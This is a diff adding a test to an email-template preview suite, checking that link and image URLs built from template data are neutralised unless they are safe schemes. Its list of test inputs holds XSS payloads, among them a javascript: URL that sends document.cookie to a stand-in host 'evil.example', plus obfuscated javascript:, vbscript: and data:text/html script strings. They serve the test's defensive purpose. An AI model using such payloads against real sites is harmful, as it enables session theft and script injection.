@@ -177,6 +177,25 @@ describe('previewEmailTemplate', () => {
     expect(rendered.preview!.text).toContain('news for <b>Tom & Jerry</b>.')
   })
 
+  it('renders a link or source built from data only to a web, mail, phone or inline-image URL', async () => {
+    const id = (await create({
+      html: `${MARKETING_HTML}<p><a href="{{website}}">site</a> <a href='{{website}}'>again</a> <img src="{{logo}}" alt=""> <a href="mailto:{{email}}">mail</a></p>`,
+      variables: [{ name: 'company' }, { name: 'website' }, { name: 'logo' }],
+    })).emailTemplate!.id
+    const render = async (website: string, logo = 'https://cdn.example.com/l.png') => (await preview(id, { name: 'Ann', company: 'Acme', website, logo })).preview!.html
+    for (const attack of ['javascript:fetch(`//evil.example/`+document.cookie)', ' JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', 'vbscript:msgbox(1)', 'data:text/html,<script>alert(1)</script>']) {
+      const html = await render(attack)
+      expect(html).toContain('<a href="#">site</a>')
+      expect(html).toContain(`<a href="#">again</a>`)
+      expect(html.toLowerCase()).not.toMatch(/script:|data:text/)
+    }
+    const fine = await render('https://acme.example/?a=1&b=2', 'data:image/png;base64,iVBORw0KGgo=')
+    expect(fine).toContain('<a href="https://acme.example/?a&#x3D;1&amp;b&#x3D;2">site</a>')
+    expect(fine).toContain('<img src="data:image/png;base64,iVBORw0KGgo&#x3D;" alt="">')
+    expect(fine).toContain('<a href="mailto:')
+    expect(await render('https://acme.example/', 'javascript:alert(1)')).toContain('<img src="#" alt="">')
+  })
+
   it('uses the fallback of a missing optional variable and reports a missing required one', async () => {
     const id = (await create({
       html: `${MARKETING_HTML}<p>Code {{coupon}}</p>`,
